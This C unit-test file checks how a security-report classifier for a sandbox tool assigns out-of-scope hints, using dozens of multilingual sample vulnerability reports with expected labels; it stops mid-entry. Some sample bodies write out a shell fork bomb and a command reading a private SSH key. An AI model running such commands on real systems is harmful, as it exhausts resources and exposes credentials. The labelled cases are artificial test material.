/* test_classify_oos.c — out-of-scope hints with the real rules/, and that a
 * hint needs a claim.
 * Split from test_classify.c by area; what the programs share is in
 * classify_helpers.h. */
#include "classify_helpers.h"

/* A message with no description, PoC or logs that claims no finding (a
 * feature request, a question) gets no out-of-scope hint either; the same
 * text with a description is a hardening suggestion. */
static void
test_oos_needs_claim(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	g_autoptr(StAnalysis) a = classify(rules, "Feature request: a PGP key for this address",
					   "Would be nice to have a key to encrypt reports with.", FALSE);

	g_assert_cmpuint(a->out_of_scope->len, ==, 1);
	g_assert_cmpstr(g_ptr_array_index(a->out_of_scope, 0), ==, "hardening");
	a->check[ST_CHECK_DESCRIPTION] = FALSE;
	st_classify(rules, a->msg, NULL, a);
	g_assert_cmpuint(a->out_of_scope->len, ==, 0);
	g_assert_cmpuint(a->out_of_scope_evidence->len, ==, 0);
}

typedef struct {
	const char *subject;
	const char *body;
	gboolean poc;
	const char *oos;       /* space separated, "" none */
	const char *klass;     /* expected class (NULL: none; ANY_CLASS: a
				* case about scope alone, whose class the
				* sentence is too short to decide) */
} OosCase;

#define ANY_CLASS "*"

static const OosCase oos_cases[] = {
	/* (#3, 5165) a process in the guest that crashes is no guest that does */
	{ "guest can write files in the host user's home through msbd crash dumps",
	  "When a process in the guest crashes, agentd sends a crash report to msbd, which writes it where "
	  "the guest says.\n", FALSE, "", ANY_CLASS },
	/* (#3, 5230) a PoC's output naming the sandbox a token was minted for */
	{ "cloud attach token not bound to its sandbox",
	  "A token for one sandbox opens any other.\n\n[*] attach token for own sandbox sbx_01 (org A): ok\n"
	  "[*] exec in sbx_02 (org B): uid=0(root)\n", FALSE, "", ANY_CLASS },
	/* (4780) Japanese: not tried yet (after "\u306f", no letter
	 * boundary), a guess from reading the code */
	{ "msb-fsd \u306e\u5c5e\u6027\u5909\u66f4\u3067\u30db\u30b9\u30c8\u306e\u30d5\u30a1\u30a4\u30eb",
	  "msb-fsd lets the guest change attributes of host files.\n\n\u307e\u3060\u5b9f\u969b\u306b\u306f\u8a66\u3057\u3066"
	  "\u3044\u307e\u305b\u3093\u3002\u30b3\u30fc\u30c9\u3092\u8aad\u3093\u3060\u3060\u3051\u306e\u63a8\u6e2c\u3067\u3059\u3002\n",
	  FALSE, "theoretical", ANY_CLASS },
	/* (4768) Ukrainian: "I did not run this", "only from reading the code" */
	{ "msb-netd: --allow-domain checks only the SNI",
	  "msb-netd lets a guest reach any address by sending an allowed SNI.\n\n\u0427\u0435\u0441\u043d\u043e: \u044f "
	  "\u0446\u044c\u043e\u0433\u043e \u043d\u0435 \u0437\u0430\u043f\u0443\u0441\u043a\u0430\u0432. \u0422\u043e\u0436 \u0446\u0435 "
	  "\u0432\u0438\u0441\u043d\u043e\u0432\u043e\u043a \u043b\u0438\u0448\u0435 \u0437 \u0447\u0438\u0442\u0430\u043d\u043d\u044f "
	  "\u043a\u043e\u0434\u0443.\n", FALSE, "theoretical", ANY_CLASS },
	/* (4948) the writer's own "(não é acesso físico)" */
	{ "Painel do msb acess\u00edvel na rede local sem autentica\u00e7\u00e3o (n\u00e3o \u00e9 acesso f\u00edsico)",
	  "O painel do msbd escuta em 0.0.0.0:7070 sem autentica\u00e7\u00e3o. Qualquer pessoa no mesmo Wi-Fi do "
	  "caf\u00e9 cria e apaga sandboxes e l\u00ea as vari\u00e1veis de ambiente.\n", FALSE, "", ANY_CLASS },
	/* (4947) Japanese: an ordinary local user against another, though
	 * at the same iMac */
	{ "\u5171\u7528 iMac \u3067\u4ed6\u306e\u5b66\u751f\u306e\u30b5\u30f3\u30c9\u30dc\u30c3\u30af\u30b9\u306e\u30b7\u30fc\u30af\u30ec\u30c3\u30c8\u304c\u8aad\u3081\u308b",
	  "\u25a0 \u7269\u7406\u30a2\u30af\u30bb\u30b9\u306b\u3064\u3044\u3066\n"
	  "\u300c\u540c\u3058 iMac \u306e\u524d\u306b\u5ea7\u3063\u3066\u3044\u308b\u306e\u3060\u304b\u3089\u7269\u7406\u30a2\u30af\u30bb\u30b9\u3060\u300d\u3068\u5224\u65ad\u3055\u308c\u308b\u304b\u3082\u3057\u308c\u307e\u305b\u3093\u304c\u3001"
	  "\u30ed\u30fc\u30ab\u30eb\u306e\u4e00\u822c\u30e6\u30fc\u30b6\u30fc\u540c\u58eb\u306e\u554f\u984c\u3060\u3068\u8003\u3048\u3066\u3044\u307e\u3059\u3002\n"
	  "msb exec \u3067\u4ed6\u306e\u5b66\u751f\u306e --secret \u306e\u5024\u304c\u8aad\u3081\u307e\u3059\u3002\n", FALSE, "", ANY_CLASS },
	/* (4878) Spanish "Dos vulnerabilidades" is two of them, no DoS */
	{ "Dos vulnerabilidades en el SDK de Python de microsandbox",
	  "files.upload() sigue los enlaces simb\u00f3licos del host, y el c\u00f3digo del sandbox lee nuestras "
	  "credenciales del worker. Los vol\u00famenes de solo lectura se montan con escritura: el sandbox "
	  "modifica ficheros del host.\n", FALSE, "", ANY_CLASS },
	/* (4534) a known advisory in a dependency, untried against msb: an
	 * upstream report, not a theoretical one as well */
	{ "hickory-proto advisory in msb-netd",
	  "cargo audit on the v0.15.3 tag flags hickory-proto 0.25.2 (RUSTSEC-2028-0081, DNS cache poisoning) "
	  "through msb-netd. In theory a guest could plant an A record for an allowed name in msb-netd's cache. "
	  "I have not tried this against msb; I only read the code and the advisory. The fix upstream is "
	  "0.25.3, please bump the dependency.\n", FALSE, "upstream", ANY_CLASS },
	/* (4587) the writer's own sandbox hangs and the others "are fine":
	 * a self-DoS, however modestly called ("prob not a real vuln"), and
	 * no hardening beside it */
	{ "msb exec hangs when guest spams /dev/console",
	  "prob not a real vuln but fyi: a sandbox that writes to /dev/console without end makes msb logs "
	  "-f and msb exec on that sandbox hang until i msb rm -f it. other sandboxes on the box are fine, "
	  "host load stays normal.", TRUE, "self_dos", NULL },
	/* (4351) a DoS of the other customers is no self-DoS */
	{ "Jeden sandbox wyczerpuje deskryptory msb-fsd na ca\u0142ym ho\u015bcie (DoS pozosta\u0142ych klient\u00f3w)",
	  "msb-fsd trzyma otwarty deskryptor dla ka\u017cdego i-w\u0119z\u0142a, wi\u0119c jeden go\u015b\u0107 wyczerpuje "
	  "limit nofile na ca\u0142ym ho\u015bcie i sandboksy innych klient\u00f3w nie startuj\u0105.", TRUE, "", ANY_CLASS },
	/* (4373) each job run "in its own sandbox" is how the work is
	 * isolated; a wget that times out where it should is no hang */
	{ "msb-netd: deny-by-default sandboxes reach IPs other sandboxes resolved",
	  "We run msb on our CI hosts, every job in its own sandbox with --net-default deny and an allow list. "
	  "Sandbox B can open a TCP connection to any address sandbox A resolved, so each allow list is the union "
	  "of all of them; when A is stopped the same wget times out like it should.", TRUE, "", ANY_CLASS },
	/* (4112) objections quoted as list labels and answered are not
	 * the writer's reading */
	{ "KSM merges guest pages across sandboxes: cross-tenant side channel",
	  "You will probably want to file this under one of two exclusions, so up front:\n\n"
	  "* \"Theoretical\": it is not. A working PoC is attached (ksm_probe.c).\n\n"
	  "* \"Already known upstream\": the write-timing side channel of memory\n  deduplication is public (Suzaki "
	  "et al. 2011), but it is not a bug in Linux. msbd calls madvise(MADV_MERGEABLE) on every guest's RAM, so one "
	  "sandbox reads what another sandbox's memory holds.\n", TRUE, "", ANY_CLASS },
	/* (4120) a self-DoS verdict answered: the daemon's memory on the
	 * host, the other tenants taken down with it */
	{ "Re: [SEC-2027-1012] msbd keeps guest console output in memory without limit",
	  "Thanks for the quick look. I think the self-DoS reading is a misunderstanding, so let me show what "
	  "actually happens on the host. It is not \"crashing your own sandbox\".\n\nThe memory that grows is "
	  "msbd's, on the host. The kernel OOM killer then kills whatever is biggest: other customers' msb-vmm "
	  "processes first, then msbd itself, which takes every sandbox on the host down. One tenant with a chatty "
	  "process takes out all the other tenants. Your policy's self-DoS example is crashing your own sandbox with "
	  "adversarial input; this is the opposite.\n", FALSE, "", ANY_CLASS },
	/* (4113) read in the code, not tried: no machine to run it on */
	{ "Fallo de dise\u00f1o en msb-agentd: el canal vsock no autentica al host",
	  "Les escribo por un problema de dise\u00f1o que encontr\u00e9 leyendo el c\u00f3digo de msb-agentd. Si un "
	  "invitado consiguiera llegar al puerto 52 de otro invitado, tendr\u00eda ejecuci\u00f3n de comandos como root "
	  "en la otra sandbox. Para ser honesto: no lo prob\u00e9. No tengo un host Linux con KVM a mano.\n",
	  FALSE, "theoretical", ANY_CLASS },
	/* (4171) a packager's "upstream release tarball" is the project's own
	 * release beside the distribution's build, no dependency's */
	{ "msb-netd fails open when built without a filter backend",
	  "Built without a filter backend, msb-netd records a deny policy and passes all traffic.\n"
	  "The same commands with the upstream release tarball on the same machine end with a timeout, "
	  "as expected. Please tell us if you request a CVE: our tracker and our users follow CVE ids.\n",
	  TRUE, "", ANY_CLASS },
	/* (4224) in French: no PoC, msb never run, all of it from reading the code */
	{ "D\u00e9bordement possible dans le chemin RX virtio-net de msb-vmm",
	  "msb-vmm \u00e9crirait au-del\u00e0 du tampon, donc potentiellement une \u00e9vasion de la sandbox.\n\n"
	  "- je n'ai pas de preuve de concept ;\n- je n'ai pas lanc\u00e9 msb du tout, tout vient de la lecture du "
	  "code au tag v0.14.0 ;\n", FALSE, "theoretical", ANY_CLASS },
	/* (4240) "no mere hardening proposal", in German */
	{ "cargo install msb installiert ein fremdes Crate",
	  "Das ist kein theoretisches Problem und ist auch kein reiner H\u00e4rtungsvorschlag, weil es heute schon "
	  "passiert: die Installationsanleitung empfiehlt cargo install msb, und das installiert ein fremdes Crate. "
	  "Mein Vorschlag: die Anleitung korrigieren.\n",
	  TRUE, "", ANY_CLASS },
	/* (4167) a hardening proposal with "no exploit" is hardening alone */
	{ "H\u00e4rtung von msbd.service und msb-vmm (kein Exploit, nur Vorschl\u00e4ge)",
	  "vorweg: Das ist ausdr\u00fccklich kein Bericht \u00fcber eine ausnutzbare L\u00fccke. Eure Policy sagt, dass "
	  "reine H\u00e4rtungsvorschl\u00e4ge nicht in den Scope fallen.\n\n1. msbd.service hat keinerlei "
	  "systemd-Sandboxing.\n", FALSE, "hardening", NULL },
	/* (4210) the card taken out of the kiosk, in Norwegian */
	{ "Sikkerhetshull: msb lagrer API-n\u00f8kkel og snapshots ukryptert p\u00e5 SD-kortet",
	  "Alt dette ligger p\u00e5 microSD-kortet. Den som \u00e5pner kioskskapet og tar ut kortet, kan lese alt p\u00e5 "
	  "en vanlig PC.\n", FALSE, "physical_access", ANY_CLASS },
	/* (4212) a kernel bug fixed upstream, known and public, in Spanish */
	{ "Escape de sandbox en WSL2: el PoC p\u00fablico de CVE-2027-41877 (KVM) tumba el kernel",
	  "Hace dos semanas se public\u00f3 CVE-2027-41877, un bug en el emulador de KVM. Seg\u00fan el aviso se "
	  "corrigi\u00f3 en upstream en diciembre. msb arranca sin problema en un kernel con una vulnerabilidad "
	  "conocida y p\u00fablica.\n", TRUE, "upstream", ANY_CLASS },
	/* (4161) a PoC said never to have been executed against a live instance */
	{ "TOCTOU race in virtio-fs leading to sandbox escape",
	  "A guest can swap a path component for a symlink between the check and the open.\n\n"
	  "Note: this PoC has not been executed against a live Microsandbox instance. It is intended to "
	  "illustrate the attack flow.\n", FALSE, "theoretical", ANY_CLASS },
	/* (4124) a model checker's trace, never tried on a real system */
	{ "Posible fuga de memoria entre snapshots en msbd: hallazgo de un modelo TLA+",
	  "Construimos el modelo leyendo el c\u00f3digo de crates/msbd/src/snapshot/. Si esto ocurriera en la "
	  "pr\u00e1ctica, ser\u00eda una fuga de memoria entre sandboxes de usuarios distintos. No lo hemos intentado "
	  "reproducir en un sistema real. No sabemos si es explotable.\n", FALSE, "theoretical", ANY_CLASS },
	/* (4150) the device reached in person, said in German */
	{ "Cloud-Token im Klartext abrufbar",
	  "Wer in diesem Moment das entsperrte Ger\u00e4t in den H\u00e4nden hat, tippt `msb cloud token show` und hat "
	  "den Token. Mir ist bewusst, dass daf\u00fcr jemand physisch an mein Ger\u00e4t herankommen muss; aus der "
	  "Ferne geht das nicht.", FALSE, "physical_access", ANY_CLASS },
	/* (4073) a path's lookups walking up to the host's root are no
	 * person at the machine */
	{ "msb-fsd: FUSE_LOOKUP of \"..\" on a volume root leaves the shared directory",
	  "That result is the host directory above the shared directory. From there, further lookups of \"..\" walk up "
	  "to the host's / and normal lookups walk down anywhere.", FALSE, "", ANY_CLASS },
	/* (3912) the policy's exclusion cited by a writer whose finding needs a
	 * local account */
	{ "Lokale Rechteausweitung \u00fcber msb-netd-helper \u2013 vermutlich out of scope?",
	  "Eure Policy schlie\u00dft Probleme aus, die physischen Zugriff\nauf den Host brauchen, und das hier braucht "
	  "ein Konto auf dem Host\nselbst \u2013 also vermutlich \"out of scope\". Der Helper ist setuid root und f\u00fchrt "
	  "jede Datei in MSB_NETD_HOOK_DIR als root aus.", FALSE, "", ANY_CLASS },
	/* (3804) the writer's own mount of his whole home, and the wish that
	 * msb warn: hardening, no class (the mount did what it was asked) */
	{ "Serious vulnerability: sandbox can read my SSH keys and whole home folder",
	  "I opened a shell in the sandbox and could see my entire home folder, including .ssh.\n\n"
	  "msb run -d --name comfy -p 8188:8188 -v ~/:/workspace comfyui-mac:latest\n\n"
	  "$ msb exec comfy -- head -1 /workspace/.ssh/id_ed25519\n-----BEGIN OPENSSH PRIVATE KEY-----\n\n"
	  "My friend gave it the whole home folder to make it easier. At the very least it should warn you when "
	  "you share your whole home folder.", TRUE, "hardening", NULL },
	/* (3800) the sandbox's agent panics, "my other sandbox kept working",
	 * however loudly the subject says RCE */
	{ "CRITICAL: Remote Code Execution (RCE) vulnerability in microsandbox Python SDK - please respond ASAP",
	  "When the code passed to sb.run() contains a null byte, the agent inside the sandbox (msb-agentd) panics "
	  "and the sandbox stops responding. I tested with my other sandbox (my-notebook) running at the same time "
	  "and it kept working, and my laptop was fine too.", TRUE, "self_dos", ANY_CLASS },
	/* (3808) "msb ls shows me only my own sandbox": who sees what, no
	 * sandbox brought down */
	{ "msb logs zeigt fremde Logs",
	  "kathi-vs3 ist die Sandbox von Katharina, sie hat sie unter ihrem eigenen Account gestartet. msb ls zeigt "
	  "mir nur meine eigene Sandbox, aber msb logs gibt mir trotzdem ihre Logs.", TRUE, "", ANY_CLASS },
	/* (3873) Traditional Chinese: "theoretical analysis", "read the source",
	 * "not yet verified on a real machine" */
	{ "msb-vmm \u7684 virtio-vsock credit \u8a08\u7b97\u53ef\u80fd\u6ea2\u4f4d\uff08\u7406\u8ad6\u5206\u6790\uff09",
	  "\u6700\u8fd1\u5728\u95b1\u8b80 microsandbox \u7684\u539f\u59cb\u78bc\u6642\uff0c\u767c\u73fe msb-vmm "
	  "\u7684 virtio-vsock \u6709\u4e00\u6bb5\u8a08\u7b97\u53ef\u80fd\u6709\u554f\u984c\u3002",
	  FALSE, "theoretical", ANY_CLASS },
	/* (3599) Traditional Chinese: "in theory", "I have not written a PoC",
	 * "not actually verified" */
	{ "microsandbox 的 microVM 可能遭受跨 sandbox 的 Rowhammer 攻擊",
	  "理論上，一個惡意的 guest 可以用 Rowhammer 翻轉相鄰 row 的位元，而相鄰 row 有可能屬於另一個 sandbox 的記憶體。"
	  "我沒有寫出 PoC，實驗室目前也沒有合適的 DDR4 機器可以測試，所以以上是理論分析，沒有實際驗證過。",
	  FALSE, "theoretical", ANY_CLASS },
	/* Simplified Chinese, the "not tested" right after the subject
	 * pronoun ("我没有实际测试过"): a Han letter before it is no word
	 * boundary to need, Chinese has none between words */
	{ "msb cp 路径穿越",
	  "我在看 msb cp 的实现时发现，理论上 guest 中的符号链接可能会被主机端跟随，从而写到主机上的任意文件。"
	  "我没有实际测试过。", FALSE, "theoretical", ANY_CLASS },
	/* (3505) Thai: "not tried yet", "no PoC", "read from the code" */
	{ "msbd agent frame decoder",
	  "\u0e1e\u0e27\u0e01\u0e40\u0e23\u0e32\u0e22\u0e31\u0e07\u0e44\u0e21\u0e48\u0e44\u0e14\u0e49\u0e25\u0e2d\u0e07"
	  "\u0e08\u0e23\u0e34\u0e07\u0e40\u0e25\u0e22\u0e04\u0e23\u0e31\u0e1a \u0e44\u0e21\u0e48\u0e21\u0e35 PoC "
	  "\u0e2d\u0e48\u0e32\u0e19\u0e08\u0e32\u0e01\u0e42\u0e04\u0e49\u0e14\u0e2d\u0e22\u0e48\u0e32\u0e07\u0e40\u0e14"
	  "\u0e35\u0e22\u0e27 guest \u0e2d\u0e32\u0e08\u0e08\u0e30\u0e23\u0e31\u0e19\u0e42\u0e04\u0e49\u0e14\u0e43\u0e19 msbd "
	  "\u0e1a\u0e19 host \u0e44\u0e14\u0e49", FALSE, "theoretical", ANY_CLASS },
	/* (3480) Italian: read in the sources, no proof of concept written,
	 * a side channel that "potrebbe" work */
	{ "Possibile canale laterale KSM tra sandbox",
	  "Leggendo i sorgenti al tag v0.12.6 ho notato che il VMM marca la memoria dei guest come MADV_MERGEABLE:\n"
	  "un sandbox potrebbe capire se un altro sandbox ha in memoria una certa pagina. Non ho scritto un proof of\n"
	  "concept e non ho misurato tempi.", FALSE, "theoretical", ANY_CLASS },
	/* (3482) confirmed on one platform, the other one expected to behave
	 * the same "but I have not tested it": no theory */
	{ "msb snapshot export keeps --secret values in clear",
	  "The export contains the value of every --secret in clear in config/runtime.json, though the docs say\n"
	  "they are never written to disk. Confirmed with msb 0.12.6 on macOS 26.1. I expect Linux hosts to behave\n"
	  "the same, since the export code is not platform-specific, but I have not tested it.", FALSE, "",
	  ANY_CLASS },
	/* (3587) Slovak: the SSD taken out of a returned notebook and read on
	 * another machine; anyone with the disk in hand reads the secrets */
	{ "Nález: nešifrované disky sandboxov na vrátenom notebooku",
	  "SSD sme z notebooku vybrali a pripojili cez USB adaptér k našej analytickej stanici. Disky sandboxov\n"
	  "nie sú šifrované. Podľa nás by microsandbox mal disky šifrovať sám, inak každý, kto má disk v ruke,\n"
	  "prečíta všetky tajomstvá.", TRUE, "physical_access", ANY_CLASS },
	/* (3382) Czech: a student at a classroom PC boots his own USB disk
	 * and reads the token from the disk mounted from the other system */
	{ "Token katedry v čitelné podobě",
	  "Student, který sedí u počítače v učebně, může počítač restartovat, nabootovat z vlastního USB disku\n"
	  "a připojit si systémový disk. Token cloudového účtu je v credentials.toml v čitelné podobě (práva\n"
	  "0600 nepomohou, když je disk připojený z jiného systému).", TRUE, "physical_access", ANY_CLASS },
	/* (#3) an untested claim from reading the code, as chat says it:
	 * "havent tested", "didnt actually try it, just reading", "could be
	 * wrong" (rounds 211, 217); a reading backed by a run is none */
	{ "host vsock frame parser overflows",
	  "reading the host side of the vsock channel on main, the frame reader copies the guest's u32 length into\n"
	  "a 64k stack buffer without a check, so a guest overflows the host process. didnt actually try it, just\n"
	  "reading, can write a poc next week.", FALSE, "theoretical", ANY_CLASS },
	{ "release workflow runs fork code with the tap token",
	  "tbh havent tested this, just reading .github/workflows on main. a fork PR would get the tap token and\n"
	  "push a formula. could be wrong if theres a check somewhere i missed", FALSE, "theoretical", ANY_CLASS },
	/* (round 248) read on a phone, never tried: "could be nothing", "if i
	 * read the tree right" */
	{ "toctou in fsd rename",
	  "hi, was reading msb-fsd in the github app on the train and i think theres a toctou in the rename handler.\n"
	  "havent tried it, idk if the window is even hittable. could be nothing fwiw. the rename bit is in\n"
	  "crates/msb-fsd/src/ops/rename.rs if i read the tree right", FALSE, "theoretical", ANY_CLASS },
	{ "host vsock frame parser overflows",
	  "I started by reading the host side of the vsock channel, then sent a control frame with len 70000 from\n"
	  "a guest and msbd crashed with a stack smash; the guest controls the bytes past the buffer.",
	  TRUE, "", ANY_CLASS },
	/* (#3, 3712, 3723) a website beg-bounty: a scanner-style finding (no
	 * rate limit, an expired security.txt) and a bounty reward or the Hall
	 * of Fame asked for: hardening, no class; a real finding that asks for
	 * the Hall of Fame stays in scope */
	{ "Email Enumeration In Your Website (Bounty?)",
	  "The newsletter form on https://superrad.company says \"You're already subscribed!\" for known emails, "
	  "and there is no captcha and no rate limit on this form. Attacker can do account takeover.\n"
	  "Kindly tell me about bounty reward and please add me in your Hall of Fame.", FALSE, "hardening", NULL },
	{ "Vulnerability Report: Expired security.txt (High)",
	  "The security.txt file of your website is EXPIRED and has no Encryption field, so attacker can intercept "
	  "reports.\nI kindly request a bounty reward as per industry standards and my name in your Hall of Fame.",
	  FALSE, "hardening", NULL },
	{ "guest writes host files through msb-fsd",
	  "From inside a sandbox I created a symlink in the shared volume and msb-fsd followed it on the host, so the\n"
	  "guest overwrote ~/.bashrc of the host user. Output attached. Please add me to your Hall of Fame.",
	  TRUE, "", ANY_CLASS },
	/* (#3, 3359) Russian: "not a vulnerability, but suggestions for
	 * hardening"; nothing to exploit */
	{ "msbd/msb-netd hardening",
	  "Это не уязвимость, а несколько предложений по усилению защиты msbd.service. Эксплуатировать тут "
	  "нечего.", FALSE,
	  "hardening", NULL },
	/* (#3, 3339) a relayer who has "not verified any of it myself" passes
	 * on a source who did it: no theoretical; the finder's own "not
	 * verified" stays */
	{ "release signing key recoverable",
	  "A source contacted me with a claim about microsandbox's release signing. I am not a security\n"
	  "researcher and have not verified any\nof it myself. With the key they signed a SHA256SUMS file listing a "
	  "modified msb binary and minisign reported the signature as valid.", FALSE, "", ANY_CLASS },
	{ "release signing key recoverable",
	  "I think the release workflow leaves the minisign secret key in a public artifact, so anyone could sign "
	  "a modified msb binary. I have not verified this, it is only from reading the workflow.", FALSE,
	  "theoretical", ANY_CLASS },
	/* (#3, 3974) a stolen phone granted as true of any service, in a
	 * list of hygiene wishes: hardening only */
	{ "Cloud console hardening suggestions",
	  "4) API keys can't be restricted to IP ranges, so a leaked backend key works from anywhere.\n"
	  "no, not vulns, nothing I could exploit. it's hygiene / defence in depth. if someone steals a phone "
	  "that's logged in it's bad but that's true for any SaaS. I'd mainly ask them for org-wide 2FA "
	  "enforcement", FALSE, "hardening", NULL },
	/* (#3, 3996) a denial of service named in French, the writer's other
	 * sandbox and the machine carrying on */
	{ "D\u00e9ni de service : msb exec bloque le terminal",
	  "Je souhaite signaler un d\u00e9ni de service dans msb : un sandbox qui \u00e9crit en continu pendant un "
	  "msb exec rend le terminal inutilisable.\nMon autre sandbox (api-dev) continue de fonctionner "
	  "normalement pendant ce temps, msbd aussi, et la machine reste utilisable.", TRUE, "self_dos", NULL },
	/* (#3, 5028) Thai: a fork bomb in one's own sandbox, "the other
	 * sandboxes on the machine still work normally" */
	{ "fork bomb \u0e17\u0e33\u0e43\u0e2b\u0e49 sandbox \u0e04\u0e49\u0e32\u0e07",
	  "$ msb exec fb -- sh -c ':(){ :|:& };:'\n$ msb exec fb -- echo hello\nError: agent did not respond within 30s\n\n"
	  "sandbox \u0e15\u0e31\u0e27\u0e2d\u0e37\u0e48\u0e19\u0e1a\u0e19\u0e40\u0e04\u0e23\u0e37\u0e48\u0e2d\u0e07"
	  "\u0e40\u0e14\u0e35\u0e22\u0e27\u0e01\u0e31\u0e19\u0e22\u0e31\u0e07\u0e17\u0e33\u0e07\u0e32\u0e19"
	  "\u0e1b\u0e01\u0e15\u0e34", TRUE, "self_dos", NULL },
	/* (#3, 3918) a sandbox's end, by a stop, a crash or the OOM killer, is
	 * the trigger; the harm is another tenant's traffic, no self-DoS */
	{ "port forward outlives its sandbox",
	  "When a sandbox with published ports (msb run -p HOST:GUEST) stops or crashes, msbd keeps its listener "
	  "open and forwards connections to the next sandbox given that CID, whoever owns it.\n"
	  "Step 3 stands for any way the sandbox ends without msb rm: a stop, a guest crash, the OOM killer.",
	  TRUE, "", ANY_CLASS },
	/* (#3, 3323) "every student their own sandbox" is the separation a
	 * leak crossed, not a self-DoS's own sandbox */
	{ "classmate's output in my exec",
	  "CodeBench gives every student their own sandbox, so that should never happen. When an exec times out,\n"
	  "its late output is handed to the next exec of another student's sandbox: b stdout: \"SECRET-FROM-A\".",
	  TRUE, "", ANY_CLASS },
	/* (#3, 3302) VMs booted cold are no cold boot attack; the attack is */
	{ "clones of one snapshot share memory",
	  "Two sandboxes restored from the same snapshot read each other's tmpfs pages: clone B reads the token\n"
	  "clone A wrote. We have switched to cold-booting every job until this is fixed.", TRUE, "", ANY_CLASS },
	{ "secrets left in host RAM",
	  "With physical access to the host, a cold boot attack reads the --secret values from RAM after shutdown.",
	  FALSE, "physical_access", ANY_CLASS },
	/* (#3) "this is not a DoS report" before a real escape, and the
	 * writer's fix patch offered "as a suggestion", are neither self-DoS
	 * nor hardening (rounds 215, 216) */
	{ "msb-fsd link race writes files in the host home",
	  "Before anything else: this is not a DoS report. The first thing my fuzzer found was a crash of my own\n"
	  "sandbox; minimising it I found that a guest can create a hard link in any host directory, so the guest\n"
	  "writes files in the host user's home.", TRUE, "", ANY_CLASS },
	{ "setuid helper chowns any directory to the caller",
	  "Any local user can take ownership of /etc/sudoers.d through the setuid helper and get root. I've attached\n"
	  "a patch that I think is the right fix. It's only compile-tested, please treat it as a suggestion.",
	  TRUE, "", ANY_CLASS },
	/* (#3) "other sandboxes + host totally unaffected, only that one
	 * box" (round 229) */
	{ "full /tmp in guest = msb exec hangs",
	  "if a sandbox fills its own /tmp msb exec into that sandbox hangs and then fails. msb rm -f t1 cleans it\n"
	  "up fine, other sandboxes + host totally unaffected, only that one box.", TRUE, "self_dos", NULL },
	/* (#3) a sandbox cut off from the network while the others kept
	 * working; a key scheme's weakness worked out and never tried
	 * (round 241) */
	{ "sandbox loses all networking after MTU change",
	  "As soon as the guest sends one frame larger than 1500 bytes, msb-netd closes that sandbox's tap device. "
	  "The sandbox keeps running but has no network at all until msb restart. The other three sandboxes on "
	  "the same host kept working normally the whole time.", TRUE, "self_dos", NULL },
	{ "cloud api keys are ULIDs",
	  "your cloud api keys look like msb_live_01JG7Q3V8X, a ULID with the creation time in it, which would mean "
	  "you could take over other orgs' keys. I haven't tried guessing any obviously, and this might be "
	  "nothing, it just looks bad to me.", FALSE, "theoretical", ANY_CLASS },
	/* (3252) a code scanner's finding nobody tried to exploit */
	{ "vendor finding: TOCTOU in msb-fsd resolve_beneath",
	  "Neither Paxton Mutual nor the vendor has attempted to exploit this, and we have no proof of concept.\n"
	  "The vendor describes the finding as potential and requiring manual validation: resolve_beneath checks\n"
	  "canonicalize() and then opens by name, so a racing rename may permit a sandbox escape.", FALSE,
	  "theoretical", ANY_CLASS },
	/* (#3) the machine itself in someone else's hands: a laptop left
	 * unlocked, stolen or at a repair shop (rounds 230, 231); a stolen
	 * token used from afar is none */
	{ "msb cloud token --show prints the key",
	  "left my macbook unlocked at the coworking space for like 10 min and a colleague ran msb cloud token --show\n"
	  "and it printed the whole api key. so anyone who gets a minute at my laptop can walk away with an admin key.",
	  TRUE, "physical_access", ANY_CLASS },
	{ "secret values kept in clear text after msb rm",
	  "msb writes --secret values in clear text under Application Support and keeps them after msb rm. The files\n"
	  "are 0600, so my worry is the laptop itself: if it's stolen, or sits at a repair shop, whoever has it gets\n"
	  "every secret.", TRUE, "physical_access", ANY_CLASS },
	/* (#3, 3144) a stolen laptop named as one way a key leaks, beside a
	 * CI log: the key is used from afar; the laptop in the thief's hands
	 * stays physical access */
	{ "api key ip allow-list not enforced on attach",
	  "The cloud API key's IP allow-list is not checked on the attach websocket, so from my home IP I got a shell\n"
	  "while the REST call was refused. We rely on that setting: a key that leaks (CI log, stolen laptop) is\n"
	  "supposed to be useless outside the office.", TRUE, "", ANY_CLASS },
	{ "api key usable anywhere",
	  "The allow-list is not checked on attach, so a key that leaks through a CI log or a stolen laptop works from\n"
	  "any address.", TRUE, "", ANY_CLASS },
	{ "secret files readable on a stolen laptop",
	  "msb keeps the --secret values in clear text after msb rm, so if the laptop is stolen, the thief reads\n"
	  "every secret.", TRUE, "physical_access", ANY_CLASS },
	/* (round 243) "walks up to the machine", "physically at the box" */
	{ "usb nics join msbbr0",
	  "any usb ethernet adapter u plug in gets added to msbbr0, so someone who walks up to the machine and plugs\n"
	  "a laptop into a usb-c dongle is on the sandbox network. u need to be physically at the box tho ik",
	  TRUE, "physical_access", ANY_CLASS },
	{ "stolen cloud token works after rotation",
	  "A token stolen from CI logs keeps working after rotation: I used the old key from a VPS and listed every\n"
	  "sandbox of the org.", TRUE, "", ANY_CLASS },
	/* (#3) a wish the writer weighs as "more a request than a
	 * vulnerability" is hardening; "more than a request" is none (round
	 * 227) */
	{ "API key stored in plain text in credentials.toml",
	  "msb cloud login stores the API key in plain text in ~/.config/msb/credentials.toml, mode 0600. Please use\n"
	  "the OS keychain instead. To be clear, this is more a request than a vulnerability.", FALSE, "hardening", NULL },
	{ "API key readable by every local user",
	  "msb cloud login stores the API key in ~/.config/msb/credentials.toml with mode 0644, so every local user\n"
	  "reads it and runs sandboxes as me. This is more than a request, any user on a shared box gets the key.",
	  TRUE, "", ANY_CLASS },
	/* (#3) a different default wished for, told as chat tells it: "not
	 * a bug exactly", "no exploit or anything" (round 214); a real
	 * bypass told beside a wish keeps its class */
	{ "default network should be off",
	  "not a bug exactly but imo msb should default to no network and drop CAP_NET_RAW in the guest. every\n"
	  "tutorial just does msb run python and gets full egress. no exploit or anything, nothing bypasses\n"
	  "your filters as far as i know, just think the default is wrong.", FALSE, "hardening", NULL },
	/* (issue #3) the writer quotes the docs that the feature he used is
	 * no isolation boundary: hardening and no class, however plainly the
	 * subject claims one; the docs calling something a boundary, or the
	 * same seen on the default network too, leave the finding standing */
	{ "Isolation bypass: sandboxes on one bridge see each other",
	  "I put the tenants' sandboxes on a shared bridge with msb network create and each one can\n"
	  "open the others' ports: curl http://tenant-b:9000/ from tenant-a returns its admin page.\n"
	  "The manual's networking chapter says: 'a shared network is not meant as an isolation\n"
	  "boundary'. I would suggest making peers unreachable unless they opt in.",
	  TRUE, "hardening", NULL },
	{ "Isolation bypass: sandboxes on the default network see each other",
	  "Each tenant sandbox runs with the default network. The docs say every sandbox is an\n"
